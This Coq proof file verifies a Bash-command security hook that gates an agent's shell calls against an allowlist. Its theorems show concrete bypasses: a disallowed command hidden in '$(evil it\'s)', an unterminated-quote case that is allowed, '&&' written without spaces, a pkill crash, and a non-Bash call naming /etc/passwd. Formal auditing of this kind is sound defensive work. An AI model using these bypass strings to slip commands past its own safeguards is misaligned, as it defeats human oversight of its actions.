          let commands := all_commands command in
          match commands with
          | [] =>
              ret (Ret (Block
                          ("Could not parse command for security validation: "
                           ++ command)))
          | _ :: _ =>
              let segments := split_command_segments command in
              r <- check_commands command segments commands ;;
              match r with
              | Raise e => ret (Raise e)
              | Ret (Some reason) => ret (Ret (Block reason))
              | Ret None =>
                  match project_dir input_data with
                  | Some dir =>
                      d <- path_check os command commands dir ;;
                      ret (Ret d)
                  | None => ret (Ret Allow)
                  end
              end
          end.

End Store.


(** * Properties *)

Import PyStr Security PlainFs.

(** ** The recursion of the substitution extractor is well founded

    Every body the three scans cut out of a string is shorter than the
    string, so the fuel [String.length command_string] is never used
    up and [extract_substitution_commands] satisfies the equation of
    the source. *)

Lemma length_append (a b : string) :
  String.length (a ++ b) = String.length a + String.length b.
Proof. induction a as [|c a IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma append_assoc (a b c : string) : (a ++ b) ++ c = a ++ (b ++ c).
Proof. induction a as [|x a IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma append_nil_r (a : string) : a ++ EmptyString = a.
Proof. induction a as [|x a IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma last_char_append (prev : ascii) (a b : string) :
  last_char prev (a ++ b) = last_char (last_char prev a) b.
Proof. revert prev. induction a as [|x a IH]; simpl; auto. Qed.

Lemma length_drop_le (n : nat) (s : string) :
  String.length (drop n s) <= String.length s.
Proof.
  revert s; induction n as [|n IH]; intros [|c s]; simpl; auto.
Qed.

Ltac split_ifs H :=
  repeat match type of H with
         | context [if ?b then _ else _] => destruct b eqn:?
         end.

Lemma dollar_scan_shorter (k : nat) :
  forall s, String.length s <= k ->
  forall depth sq dq prev body n inner n',
    dollar_scan depth sq dq prev body n s = (Some inner, n') ->
    String.length inner < String.length body + String.length s.
Proof.
  induction k as [|k IH]; intros [|ch r] Hk; simpl in *;
    try discriminate; try lia.
  intros depth sq dq prev body n inner n' H.
  assert (Hr : String.length r <= k) by lia.
  assert (Hnext : forall d a b,
             dollar_scan d a b ch (body ++ str1 ch) (S n) r = (Some inner, n') ->
             String.length inner < String.length body + S (String.length r)).
  { intros d a b E. apply (IH r Hr) in E.
    rewrite length_append in E. simpl in E. lia. }
  split_ifs H; eauto.
  - destruct r as [|c2 r']; [discriminate|].
    apply IH in H; [|simpl in Hr; lia].
    rewrite length_append in H. simpl in *. lia.
  - destruct depth as [|[|d]]; eauto; inversion H; subst; lia.
Qed.

Lemma dollar_bodies_aux_shorter (s : string) :
  forall skip inner,
    In inner (dollar_bodies_aux skip s) ->
    String.length inner < String.length s.
Proof.
  induction s as [|c r IH]; [simpl; tauto|].
  intros [|k] inner H; cbn [dollar_bodies_aux] in H.
  - destruct (Ascii.eqb c "$" && starts_with_paren r).
    + destruct (dollar_scan 1 false false "(" EmptyString 0 (drop 1 r))
        as [found n] eqn:E.
      destruct found as [i|].
      * destruct H as [<-|H]; [|apply IH in H; simpl; lia].
        apply (dollar_scan_shorter _ _ (le_n _)) in E.
        pose proof (length_drop_le 1 r). simpl in *. lia.
      * apply IH in H; simpl; lia.
    + apply IH in H; simpl; lia.
  - apply IH in H; simpl; lia.
Qed.

Lemma backtick_aux_shorter (s : string) :
  forall inside b,
    In b (Re.backtick_aux inside s) ->
    String.length b
    < match inside with Some body => String.length body | None => 0 end
      + String.length s.
Proof.
  induction s as [|c r IH]; simpl; [tauto|].
  intros inside b H.
  destruct (Ascii.eqb c "`"); destruct inside as [body|].
  - destruct H as [<-|H]; [lia|]. apply IH in H. simpl in H. lia.
  - apply IH in H. simpl in H. lia.
  - apply IH in H. rewrite length_append in H. simpl in H. lia.
  - apply IH in H. simpl in H. lia.
Qed.

Lemma paren_scan_shorter (s : string) :
  forall depth body inner,
    paren_scan depth body s = Some inner ->
    String.length inner < String.length body + String.length s.
Proof.
  induction s as [|c r IH]; simpl; [discriminate|].
  intros depth body inner H.
  destruct (Ascii.eqb c "(").
  - apply IH in H. rewrite length_append in H. simpl in H. lia.
  - destruct (Ascii.eqb c ")").
    + destruct depth as [|[|d]];
        try (inversion H; subst; lia).
      apply IH in H. rewrite length_append in H. simpl in H. lia.
    + apply IH in H. rewrite length_append in H. simpl in H. lia.
Qed.

Lemma proc_sub_tails_shorter (s : string) :
  forall t, In t (Re.proc_sub_tails s) -> String.length t < String.length s.
Proof.
  induction s as [|c r IH]; simpl; [tauto|].
  intros t H.
  destruct ((Ascii.eqb c "<" || Ascii.eqb c ">") && String.prefix "(" r).
  - destruct H as [<-|H].
    + pose proof (length_drop_le 1 r). simpl in *. lia.
    + apply IH in H. lia.
  - apply IH in H. lia.
Qed.

Lemma in_keep_some {A : Type} (l : list (option A)) (a : A) :
  In a (keep_some l) <-> In (Some a) l.
Proof.
  induction l as [|[x|] l IH]; simpl; [tauto| |].
  - rewrite IH. split; intros [H|H]; auto; left; congruence.
  - rewrite IH. split; [auto|]. intros [H|H]; [discriminate|auto].
Qed.

Lemma substitution_bodies_shorter (s inner : string) :
  In inner (substitution_bodies s) ->
  String.length inner < String.length s.
Proof.
  unfold substitution_bodies. rewrite !in_app_iff.
  intros [H|[H|H]].
  - exact (dollar_bodies_aux_shorter _ _ _ H).
  - apply backtick_aux_shorter in H. exact H.
  - unfold proc_sub_bodies in H. apply in_keep_some, in_map_iff in H.
    destruct H as (t & E & Ht). apply paren_scan_shorter in E.
    apply proc_sub_tails_shorter in Ht. simpl in E. lia.
Qed.

Lemma flat_map_ext_on {A B : Type} (f g : A -> list B) (l : list A) :
  (forall a, In a l -> f a = g a) -> flat_map f l = flat_map g l.
Proof.
  induction l as [|a l IH]; simpl; intros H; [reflexivity|].
  rewrite (H a (or_introl eq_refl)), IH; auto.
Qed.

Lemma fuel_is_enough (n : nat) :
  forall m s,
    String.length s <= n -> String.length s <= m ->
    extract_substitution_commands_fuel n s
    = extract_substitution_commands_fuel m s.
Proof.
  induction n as [|n IH]; intros [|m] s Hn Hm; try reflexivity.
  - destruct s; [reflexivity | simpl in Hn; lia].
  - destruct s; [reflexivity | simpl in Hm; lia].
  - simpl. apply flat_map_ext_on. intros inner Hin.
    apply substitution_bodies_shorter in Hin.
    f_equal. apply IH; lia.
Qed.

(** The equation of the source: the names of every body, then the names
    found below it. *)
Lemma extract_substitution_commands_eq (s : string) :
  extract_substitution_commands s
  = flat_map (fun inner =>
                (extract_commands inner
                 ++ extract_substitution_commands inner)%list)
             (substitution_bodies s).
Proof.
  unfold extract_substitution_commands.
  destruct s as [|c r]; [reflexivity|].
  change (String.length (String c r)) with (S (String.length r)).
  cbn [extract_substitution_commands_fuel].
  apply flat_map_ext_on. intros inner Hin.
  apply substitution_bodies_shorter in Hin. simpl in Hin.
  f_equal. apply fuel_is_enough; lia.
Qed.

(** ** The stages of the hook *)

Lemma all_commands_empty : all_commands EmptyString = [].
Proof. reflexivity. Qed.

(** The hook on a call for Bash with a command that yields names. *)
Lemma hook_on_command (os : OS) (input : HookInput) (c : string) :
  tool_name input = Some "Bash" ->
  command input = Some c ->
  all_commands c <> [] ->
  bash_security_hook os input
  = match check_commands c (split_command_segments c) (all_commands c) with
    | Raise e => Raise e
    | Ret (Some reason) => Ret (Block reason)
    | Ret None =>
        match project_dir input with
        | Some dir => Ret (path_check os c (all_commands c) dir)
        | None => Ret Allow
        end
    end.
Proof.
  intros Ht Hc Hne. unfold bash_security_hook. rewrite Ht, Hc. simpl.
  destruct (String.eqb_spec c EmptyString) as [->|_]; [now elim Hne|].
  destruct (all_commands c); [now elim Hne | reflexivity].
Qed.

Lemma check_command_not_allowed (c : string) (segs : list string)
      (x : string) :
  mem x ALLOWED_COMMANDS = false ->
  check_command c segs x = Ret (Some (not_allowed_reason x)).
Proof. intros H. unfold check_command. now rewrite H. Qed.

Lemma check_command_pass_allowed (c : string) (segs : list string)
      (x : string) :
  check_command c segs x = Ret None -> mem x ALLOWED_COMMANDS = true.
Proof.
  unfold check_command. destruct (mem x ALLOWED_COMMANDS); simpl;
    [reflexivity | discriminate].
Qed.

Lemma check_commands_app (c : string) (segs pre rest : list string) :
  (forall x, In x pre -> check_command c segs x = Ret None) ->
  check_commands c segs (pre ++ rest) = check_commands c segs rest.
Proof.
  induction pre as [|x pre IH]; simpl; intros H; [reflexivity|].
  rewrite (H x (or_introl eq_refl)). apply IH. intros y Hy. apply H. now right.
Qed.

Lemma check_commands_pass_all (c : string) (segs l : list string) :
  check_commands c segs l = Ret None ->
  forall x, In x l -> check_command c segs x = Ret None.
Proof.
  induction l as [|y l IH]; simpl; intros H x Hx; [tauto|].
  destruct (check_command c segs y) as [[r|]|e] eqn:E; try discriminate.
  destruct Hx as [<-|Hx]; auto.
Qed.

(** A name outside the allowlist stops the loop over the commands. *)
Lemma check_commands_not_allowed (c : string) (segs l : list string)
      (x : string) :
  In x l -> mem x ALLOWED_COMMANDS = false ->
  check_commands c segs l <> Ret None.
Proof.
  intros Hx Hm H.
  apply (check_commands_pass_all _ _ _ H), check_command_pass_allowed in Hx.
  congruence.
Qed.

(** Whatever the extractors return is checked: an extracted name that
    is not allowed never lets the hook answer allow. *)
Lemma extracted_name_not_allowed (os : OS) (input : HookInput)
      (c name : string) :
  tool_name input = Some "Bash" ->
  command input = Some c ->
  In name (all_commands c) ->
  mem name ALLOWED_COMMANDS = false ->
  bash_security_hook os input <> Ret Allow.
Proof.
  intros Ht Hc Hin Hm.
  assert (Hne : all_commands c <> []) by (intros E; now rewrite E in Hin).
  rewrite (hook_on_command os input c Ht Hc Hne).
  pose proof (check_commands_not_allowed c (split_command_segments c)
                _ _ Hin Hm) as Hk.
  destruct (check_commands c (split_command_segments c) (all_commands c))
    as [[r|]|e]; try discriminate. now elim Hk.
Qed.

(** Only the validator of [pkill] lets an exception out. *)
Lemma extra_validation_raises (cmd seg : string) (e : exn) :
  extra_validation cmd seg = Raise e -> cmd = "pkill".
Proof.
  unfold extra_validation.
  destruct (String.eqb_spec cmd "pkill") as [->|_]; [reflexivity|].
  repeat match goal with
         | |- context [if ?b then _ else _] => destruct b
         end; discriminate.
Qed.

Lemma check_commands_raises (c : string) (segs l : list string) (e : exn) :
  check_commands c segs l = Raise e -> In "pkill" l.
Proof.
  induction l as [|x l IH]; simpl; [discriminate|].
  destruct (check_command c segs x) as [[r|]|e'] eqn:E; try discriminate.
  - intros H. right. auto.
  - intros _. left. unfold check_command in E.
    destruct (negb (mem x ALLOWED_COMMANDS)); [discriminate|].
    destruct (mem x COMMANDS_NEEDING_EXTRA_VALIDATION); [|discriminate].
    destruct (extra_validation x _) as [[[] ?]|e''] eqn:V; try discriminate.
    now apply extra_validation_raises in V.
Qed.

(** ** Names inside substitutions *)

(** The names of a body, and the names found below a body, are names of
    the string the body was cut from: the depth of nesting does not
    matter. *)
Lemma body_names_extracted (s inner name : string) :
  In inner (substitution_bodies s) ->
  In name (extract_commands inner)
  \/ In name (extract_substitution_commands inner) ->
  In name (extract_substitution_commands s).
Proof.
  intros Hb Hn. rewrite extract_substitution_commands_eq.
  apply in_flat_map. exists inner. split; [exact Hb|].
  apply in_app_iff. exact Hn.
Qed.

(** The scan of a body passes over a quiet text without a change of
    depth. *)
Lemma dollar_scan_quiet (x : string) :
  quiet x = true ->
  forall depth prev body n rest,
    dollar_scan depth false false prev body n (x ++ rest)
    = dollar_scan depth false false (last_char prev x) (body ++ x)
                  (n + String.length x) rest.
Proof.
  induction x as [|c x IH]; intros Hq depth prev body n rest.
  - simpl. now rewrite append_nil_r, Nat.add_0_r.
  - simpl in Hq. apply andb_true_iff in Hq. destruct Hq as [Hc Hx].
    unfold quiet_char in Hc. apply negb_true_iff in Hc.
    repeat (apply orb_false_iff in Hc; destruct Hc as [Hc ?]).
    cbn [append dollar_scan].
    repeat match goal with
           | H : Ascii.eqb c _ = false |- _ => rewrite H; clear H
           end.
    cbn [andb negb]. rewrite (IH Hx). cbn [last_char String.length].
    now rewrite append_assoc, Nat.add_succ_r.
Qed.

(** The three steps of the scan outside quotes: an opening [$(], a
    closing parenthesis above depth one, and the last one. *)
Lemma dollar_scan_open (d : nat) (prev : ascii) (body : string) (n : nat)
      (r : string) :
  dollar_scan d false false prev body n (String "$" (String "(" r))
  = dollar_scan (S d) false false "(" (body ++ "$(") (S (S n)) r.
Proof. reflexivity. Qed.

Lemma dollar_scan_close (d : nat) (prev : ascii) (body : string) (n : nat)
      (r : string) :
  dollar_scan (S (S d)) false false prev body n (String ")" r)
  = dollar_scan (S d) false false ")" (body ++ ")") (S n) r.
Proof. reflexivity. Qed.

Lemma dollar_scan_end (prev : ascii) (body : string) (n : nat) (r : string) :
  dollar_scan 1 false false prev body n (String ")" r) = (Some body, S n).
Proof. reflexivity. Qed.

(** It passes over a nest of substitutions without a change of depth
    either. *)
Lemma dollar_scan_nest (k : nat) (inner : string) :
  quiet inner = true ->
  forall d prev body n rest,
    dollar_scan (S d) false false prev body n (nest k inner ++ rest)
    = dollar_scan (S d) false false (last_char prev (nest k inner))
                  (body ++ nest k inner)
                  (n + String.length (nest k inner)) rest.
Proof.
  intros Hq. induction k as [|k IH]; intros d prev body n rest.
  - apply (dollar_scan_quiet inner Hq).
  - cbn [nest].
    replace (("echo $(" ++ nest k inner ++ ")") ++ rest)
      with ("echo " ++ String "$" (String "(" (nest k inner ++ String ")" rest)))
      by (now rewrite !append_assoc).
    rewrite (dollar_scan_quiet "echo " eq_refl), dollar_scan_open, IH,
      dollar_scan_close.
    f_equal.
    + now rewrite !last_char_append.
    + now rewrite !append_assoc.
    + rewrite !length_append. simpl. lia.
Qed.

(** The outer loop on a string that starts with [echo $(]. *)
Lemma dollar_bodies_echo (r : string) :
  dollar_bodies ("echo $(" ++ r)
  = let '(found, n) := dollar_scan 1 false false "(" EmptyString 0 r in
    match found with
    | Some inner => inner :: dollar_bodies_aux (S n) (String "(" r)
    | None => dollar_bodies_aux (S n) (String "(" r)
    end.
Proof. reflexivity. Qed.

(** So the body of a substitution that wraps a nest is the nest. *)
Lemma nest_body_found (k : nat) (inner : string) :
  quiet inner = true ->
  In (nest k inner) (substitution_bodies (nest (S k) inner)).
Proof.
  intros Hq. unfold substitution_bodies. apply in_app_iff. left.
  cbn [nest]. rewrite dollar_bodies_echo.
  change (nest k inner ++ ")") with (nest k inner ++ String ")" EmptyString).
  rewrite (dollar_scan_nest k inner Hq 0), dollar_scan_end.
  now left.
Qed.

(** The names of a text are extracted through any number of command
    substitutions around it, when the text holds no quote, parenthesis
    or dollar sign. *)
Lemma nested_names_extracted (k : nat) (inner name : string) :
  quiet inner = true ->
  In name (extract_commands inner) ->
  In name (extract_substitution_commands (nest (S k) inner)).
Proof.
  intros Hq Hn. induction k as [|k IH].
  - apply (body_names_extracted _ inner); [|now left].
    exact (nest_body_found 0 inner Hq).
  - apply (body_names_extracted _ (nest (S k) inner)); [|now right].
    exact (nest_body_found (S k) inner Hq).
Qed.

(** And a name among them that is not allowed keeps the hook from
    allowing, at any depth. *)
Lemma nested_name_not_allowed (os : OS) (dir : option string)
      (k : nat) (inner name : string) :
  quiet inner = true ->
  In name (extract_commands inner) ->
  mem name ALLOWED_COMMANDS = false ->
  bash_security_hook os (bash_call (nest (S k) inner) dir) <> Ret Allow.
Proof.
  intros Hq Hn Hm.
  apply (extracted_name_not_allowed os _ (nest (S k) inner) name);
    try reflexivity; [|exact Hm].
  unfold all_commands. apply in_app_iff. right.
  exact (nested_names_extracted k inner name Hq Hn).
Qed.

(** A name three substitutions deep is refused like a top-level one. *)
Lemma three_levels_deep_blocked (os : OS) (dir : option string) :
  bash_security_hook os (bash_call "echo $(echo $(echo $(evil)))" dir)
  = Ret (Block (not_allowed_reason "evil")).
Proof. destruct dir; vm_compute; reflexivity. Qed.

(** C1: every command name inside a substitution is extracted and
    checked against the allowlist, and the hook blocks when one is not
    allowed.  The code does not do this.  In
    [echo $(evil it\'s)] the shell runs [evil] inside the substitution;
    the body is the text [evil it\'s], whose command name is [evil],
    which is not allowed.  The scan of the body takes the escaped quote
    for the opening of a quoted text, never sees the closing
    parenthesis, and extracts nothing; the hook allows the command. *)
Theorem substitution_name_escapes_allowlist :
  forall (os : OS) (dir : option string),
    extract_commands "evil it\'s" = ["evil"]
    /\ mem "evil" ALLOWED_COMMANDS = false
    /\ substitution_bodies "echo $(evil it\'s)" = []
    /\ bash_security_hook os (bash_call "echo $(evil it\'s)" dir)
       = Ret Allow.
Proof.
  intros os dir. repeat split; try (vm_compute; reflexivity).
  destruct dir; vm_compute; reflexivity.
Qed.

(** ** Chained commands *)

(** One turn of the loop, for a name on the allowlist. *)
Lemma check_command_allowed (c name : string) :
  mem name ALLOWED_COMMANDS = true ->
  check_command c (split_command_segments c) name
  = match validator_result c name with
    | Raise e => Raise e
    | Ret (true, _) => Ret None
    | Ret (false, reason) => Ret (Some reason)
    end.
Proof.
  intros H. unfold check_command, validator_result, validated_segment.
  rewrite H. cbn [negb].
  destruct (mem name COMMANDS_NEEDING_EXTRA_VALIDATION); reflexivity.
Qed.

Lemma check_command_accepted (c name reason : string) :
  mem name ALLOWED_COMMANDS = true ->
  validator_result c name = Ret (true, reason) ->
  check_command c (split_command_segments c) name = Ret None.
Proof. intros H Hv. now rewrite (check_command_allowed c name H), Hv. Qed.

(** The hook on a command whose names pass up to one of them. *)
Lemma hook_stops_at (os : OS) (input : HookInput) (c : string)
      (pre : list string) (name : string) (post : list string) :
  tool_name input = Some "Bash" ->
  command input = Some c ->
  all_commands c = (pre ++ name :: post)%list ->
  (forall x, In x pre ->
             check_command c (split_command_segments c) x = Ret None) ->
  bash_security_hook os input
  = match check_command c (split_command_segments c) name with
    | Raise e => Raise e
    | Ret (Some reason) => Ret (Block reason)
    | Ret None =>
        match check_commands c (split_command_segments c) post with
        | Raise e => Raise e
        | Ret (Some reason) => Ret (Block reason)
        | Ret None =>
            match project_dir input with
            | Some dir => Ret (path_check os c (all_commands c) dir)
            | None => Ret Allow
            end
        end
    end.
Proof.
  intros Ht Hc Hall Hpre.
  assert (Hne : all_commands c <> []).
  { rewrite Hall. now destruct pre. }
  rewrite (hook_on_command os input c Ht Hc Hne).
  rewrite Hall at 1. rewrite (check_commands_app _ _ _ _ Hpre).
  cbn [check_commands].
  destruct (check_command c (split_command_segments c) name)
    as [[reason|]|e]; reflexivity.
Qed.

(** C2, as the code has it: the names extracted from a command string
    are checked in the order of extraction, each against the allowlist
    and then by its validator, before the next one is looked at.  When
    they contain a name that is not allowed, the hook never allows.
    When every name before the first such name is accepted by its
    validator, the block names that command.  When the validator of an
    earlier name refuses, and those before it accept, the block carries
    the reason of that validator; when it raises, the hook raises. *)
Theorem first_disallowed_name_blocks :
  forall (os : OS) (input : HookInput) (c : string)
         (pre : list string) (name : string) (post : list string),
    tool_name input = Some "Bash" ->
    command input = Some c ->
    all_commands c = (pre ++ name :: post)%list ->
    (forall x, In x pre -> mem x ALLOWED_COMMANDS = true) ->
    mem name ALLOWED_COMMANDS = false ->
    bash_security_hook os input <> Ret Allow
    /\ ((forall x, In x pre ->
           exists r, validator_result c x = Ret (true, r)) ->
        bash_security_hook os input = Ret (Block (not_allowed_reason name)))
    /\ (forall before earlier after,
          pre = (before ++ earlier :: after)%list ->
          (forall x, In x before ->
             exists r, validator_result c x = Ret (true, r)) ->
          (forall reason,
              validator_result c earlier = Ret (false, reason) ->
              bash_security_hook os input = Ret (Block reason))
          /\ (forall e,
                validator_result c earlier = Raise e ->
                bash_security_hook os input = Raise e)).
Proof.
  intros os input c pre name post Ht Hc Hall Hpre Hm.
  assert (Hpass : forall l,
             (forall x, In x l -> In x pre) ->
             (forall x, In x l ->
                        exists r, validator_result c x = Ret (true, r)) ->
             forall x, In x l ->
                       check_command c (split_command_segments c) x
                       = Ret None).
  { intros l Hl Hv x Hx. destruct (Hv x Hx) as [r Hr].
    exact (check_command_accepted c x r (Hpre x (Hl x Hx)) Hr). }
  split; [|split].
  - apply (extracted_name_not_allowed os input c name Ht Hc); [|exact Hm].
    rewrite Hall. apply in_app_iff. right. now left.
  - intros Hv.
    rewrite (hook_stops_at os input c pre name post Ht Hc Hall
                           (Hpass pre (fun x H => H) Hv)).
    now rewrite (check_command_not_allowed _ _ _ Hm).
  - intros before earlier after Hsplit Hv.
    assert (Hin : forall x, In x before -> In x pre).
    { intros x Hx. rewrite Hsplit. apply in_app_iff. now left. }
    assert (He : mem earlier ALLOWED_COMMANDS = true).
    { apply Hpre. rewrite Hsplit. apply in_app_iff. right. now left. }
    assert (Hall' : all_commands c
                    = (before ++ earlier :: (after ++ name :: post))%list).
    { rewrite Hall, Hsplit, <- app_assoc. reflexivity. }
    rewrite (hook_stops_at os input c before earlier _ Ht Hc Hall'
                           (Hpass before Hin Hv)).
    rewrite (check_command_allowed c earlier He).
    split.
    + intros reason Hr. now rewrite Hr.
    + intros e Hr. now rewrite Hr.
Qed.

Lemma first_disallowed_name_blocks_witness :
  run_no_dir "echo hi && unknown_cmd"
  = Ret (Block "Command 'unknown_cmd' is not in the allowed commands list.")
  /\ run_no_dir "echo hi" = Ret Allow
  /\ run_no_dir "ls && rm && unknown_cmd"
     = Ret (Block "rm requires at least one target")
  /\ run_no_dir "pkill ' ' && unknown_cmd" = Raise IndexError.
Proof.
  destruct (first_disallowed_name_blocks
              dev_os (bash_call "echo hi && unknown_cmd" None)
              "echo hi && unknown_cmd" ["echo"] "unknown_cmd" []
              eq_refl eq_refl eq_refl) as (_ & Hname & _).
  { intros x [<-|[]]. reflexivity. }
  { reflexivity. }
  destruct (first_disallowed_name_blocks
              dev_os (bash_call "ls && rm && unknown_cmd" None)
              "ls && rm && unknown_cmd" ["ls"; "rm"] "unknown_cmd" []
              eq_refl eq_refl eq_refl) as (_ & _ & Hearlier).
  { intros x [<-|[<-|[]]]; reflexivity. }
  { reflexivity. }
  destruct (first_disallowed_name_blocks
              dev_os (bash_call "pkill ' ' && unknown_cmd" None)
              "pkill ' ' && unknown_cmd" ["pkill"] "unknown_cmd" []
              eq_refl eq_refl eq_refl) as (_ & _ & Hraise).
  { intros x [<-|[]]. reflexivity. }
  { reflexivity. }
  split; [|split; [|split]].
  - apply Hname. intros x [<-|[]]. now exists EmptyString.
  - vm_compute. reflexivity.
  - apply (proj1 (Hearlier ["ls"] "rm" [] eq_refl
                           (fun x H =>
                              match H with
                              | or_introl E =>
                                  ex_intro _ EmptyString
                                    (eq_ind "ls"
                                       (fun y => validator_result
                                                   "ls && rm && unknown_cmd" y
                                                 = Ret (true, EmptyString))
                                       eq_refl x E)
                              | or_intror F => match F with end
                              end))).
    vm_compute. reflexivity.
  - apply (proj2 (Hraise [] "pkill" [] eq_refl
                         (fun x (F : In x []) => match F with end))).
    vm_compute. reflexivity.
Defined.

(** C2 as stated fails: in [rm && unknown_cmd] the first name that is
    not allowed is [unknown_cmd], but the loop runs the validator of
    [rm] before it looks at the next name, and the block carries the
    reason of that validator. *)
Lemma chained_block_names_other_command :
  all_commands "rm && unknown_cmd" = ["rm"; "unknown_cmd"]
  /\ mem "rm" ALLOWED_COMMANDS = true
  /\ mem "unknown_cmd" ALLOWED_COMMANDS = false
  /\ run_no_dir "rm && unknown_cmd"
     = Ret (Block "rm requires at least one target")
  /\ contains "unknown_cmd" "rm requires at least one target" = false.
Proof. repeat split; vm_compute; reflexivity. Qed.

(** The operators are recognised only as tokens of their own: without
    white space around [&&] the second name is not extracted. *)
Lemma unspaced_operator_not_split :
  all_commands "echo hi&&unknown_cmd" = ["echo"]
  /\ run_no_dir "echo hi&&unknown_cmd" = Ret Allow.
Proof. split; vm_compute; reflexivity. Qed.

(** ** Parse failures *)

(** A command that yields no name at all is blocked. *)
Lemma no_names_blocked (os : OS) (input : HookInput) (c : string) :
  tool_name input = Some "Bash" ->
  command input = Some c ->
  c <> EmptyString ->
  all_commands c = [] ->
  bash_security_hook os input
  = Ret (Block ("Could not parse command for security validation: " ++ c)).
Proof.
  intros Ht Hc Hne Hall. unfold bash_security_hook. rewrite Ht, Hc. simpl.
  destruct (String.eqb_spec c EmptyString) as [E|_]; [now elim Hne|].
  now rewrite Hall.
Qed.

(** C5: a command with unterminated quoting is blocked.  The code does
    not do this when a substitution yields a name: [extract_commands]
    returns the empty list for the unparseable string, the names of the
    substitution are appended to it, and the list is no longer empty. *)
Theorem unterminated_quote_allowed :
  forall (os : OS) (dir : option string),
    Shlex.split ("echo " ++ dq ++ "$(ls)") = None
    /\ extract_commands ("echo " ++ dq ++ "$(ls)") = []
    /\ bash_security_hook os (bash_call ("echo " ++ dq ++ "$(ls)") dir)
       = Ret Allow.
Proof.
  intros os dir. repeat split; try (vm_compute; reflexivity).
  destruct dir; vm_compute; reflexivity.
Qed.

(** ** Exceptions *)

(** An exception leaves the hook only when [pkill] is among the names. *)
Lemma hook_raises_only_for_pkill (os : OS) (input : HookInput) (e : exn) :
  bash_security_hook os input = Raise e ->
  exists c, command input = Some c /\ In "pkill" (all_commands c).
Proof.
  unfold bash_security_hook.
  destruct (negb (is_bash (tool_name input))); [discriminate|].
  destruct (command input) as [c|]; simpl; [|discriminate].
  destruct (String.eqb c EmptyString); [discriminate|].
  destruct (all_commands c) as [|x l] eqn:Hall; [discriminate|].
  destruct (check_commands c (split_command_segments c) (x :: l))
    as [[r|]|e'] eqn:E; try discriminate.
  - destruct (project_dir input); discriminate.
  - intros _. exists c. split; [reflexivity|].
    rewrite Hall. exact (check_commands_raises _ _ _ _ E).
Qed.

(** C6: every call returns one Decision and no error leaves the hook.
    The code does not do this: for a target of [pkill] made of blanks,
    [target.split()] is empty and its first element raises
    [IndexError], which no handler catches. *)
Theorem pkill_blank_target_raises :
  forall (os : OS) (dir : option string),
    bash_security_hook os (bash_call ("pkill " ++ dq ++ " " ++ dq) dir)
    = Raise IndexError.
Proof. intros os dir. destruct dir; vm_compute; reflexivity. Qed.

(** ** Calls that are not checked *)

(** C10: another tool, or a missing or empty command, is allowed at
    once, whatever else the input holds. *)
Theorem not_bash_or_empty_allowed :
  forall (os : OS) (input : HookInput),
    tool_name input <> Some "Bash"
    \/ command input = None
    \/ command input = Some EmptyString ->
    bash_security_hook os input = Ret Allow.
Proof.
  intros os input H. unfold bash_security_hook.
  destruct (is_bash (tool_name input)) eqn:Hb; [|reflexivity]. simpl.
  destruct H as [H|[H|H]].
  - unfold is_bash in Hb. destruct (tool_name input) as [n|]; [|discriminate].
    apply String.eqb_eq in Hb. subst n. now elim H.
  - now rewrite H.
  - now rewrite H.
Qed.

Lemma not_bash_or_empty_allowed_witness :
  bash_security_hook dev_os
    {| tool_name := Some "Write"; command := Some "unknown_cmd /etc/passwd";
       project_dir := Some "/work/proj" |} = Ret Allow
  /\ bash_security_hook dev_os (bash_call EmptyString (Some "/work/proj")) = Ret Allow.
Proof.
  split; apply not_bash_or_empty_allowed; simpl.
  - left. discriminate.
  - right. right. reflexivity.
Defined.

(** ** The validator of [kill] *)

Lemma kill_pid_loop_low (pids : list string) (pid : string) (n : Z) :
  In pid pids ->
  startswith pid "%" = false ->
  py_int pid = Some n ->
  (n < 100)%Z ->
  exists reason, kill_pid_loop pids = Some reason.
Proof.
  induction pids as [|p pids IH]; simpl; [tauto|].
  intros Hin Hs Hi Hn.
  destruct (startswith p "%") eqn:Hp.
  - destruct Hin as [->|Hin]; [congruence | auto].
  - destruct (py_int p) as [m|] eqn:Hm.
    + destruct (m =? 1)%Z; [eauto|].
      destruct (m <? 0)%Z; [eauto|].
      destruct (m <? 100)%Z eqn:Hlt; [eauto|].
      destruct Hin as [->|Hin]; [|auto].
      rewrite Hi in Hm. inversion Hm. subst m.
      apply Z.ltb_ge in Hlt. lia.
    + destruct Hin as [->|Hin]; [congruence | auto].
Qed.

(** A target that is the number 1, a negative number or a number below
    100 makes the validator refuse the command. *)
Lemma kill_low_pid_refused (s : string) (args : list string)
      (signal : option string) (pids : list string) (pid : string) (n : Z) :
  Shlex.split s = Some ("kill" :: args) ->
  kill_loop None [] args = Kill_send signal pids ->
  In pid pids ->
  startswith pid "%" = false ->
  py_int pid = Some n ->
  (n < 100)%Z ->
  fst (validate_kill_command s) = false.
Proof.
  intros Hs Hl Hin Hp Hi Hn. unfold validate_kill_command.
  rewrite Hs, Hl. simpl.
  destruct pids as [|p0 pids0]; [reflexivity|].
  destruct (signal_refused signal); [reflexivity|].
  destruct (kill_pid_loop_low _ _ _ Hin Hp Hi Hn) as [r ->]. reflexivity.
Qed.

(** A command the validator lets pass sends a signal of the allowed set,
    if it names one. *)
Lemma kill_signal_allowed (s : string) (args : list string)
      (sig : string) (pids : list string) :
  Shlex.split s = Some ("kill" :: args) ->
  kill_loop None [] args = Kill_send (Some sig) pids ->
  sig <> EmptyString ->
  fst (validate_kill_command s) = true ->
  mem sig allowed_signals = true.
Proof.
  intros Hs Hl Hne. unfold validate_kill_command.
  rewrite Hs. cbv beta iota. rewrite String.eqb_refl. cbn [negb].
  rewrite Hl.
  destruct pids as [|p0 pids0]; [cbn; discriminate|].
  unfold signal_refused.
  assert (Hn : Shlex.nonempty sig = true)
    by (destruct sig; [now elim Hne | reflexivity]).
  rewrite Hn.
  destruct (mem sig allowed_signals); [reflexivity|]. cbn. discriminate.
Qed.

(** A target that [int] refuses is passed over. *)
Lemma kill_non_numeric_tolerated :
  validate_kill_command "kill -TERM $PID" = (true, EmptyString).
Proof. vm_compute. reflexivity. Qed.

Lemma kill_examples (os : OS) (dir : option string) :
  bash_security_hook os (bash_call "kill -9 1" dir)
  = Ret (Block "kill blocked: cannot kill PID 1 (init)")
  /\ bash_security_hook os (bash_call "kill -TERM 5000" dir) = Ret Allow
  /\ bash_security_hook os (bash_call "kill -9 50" dir)
     = Ret (Block "kill blocked: system process PID not allowed: 50").
Proof. repeat split; destruct dir; vm_compute; reflexivity. Qed.

(** No token that starts with a dash becomes a target, so the test for
    a negative number is never made on one. *)
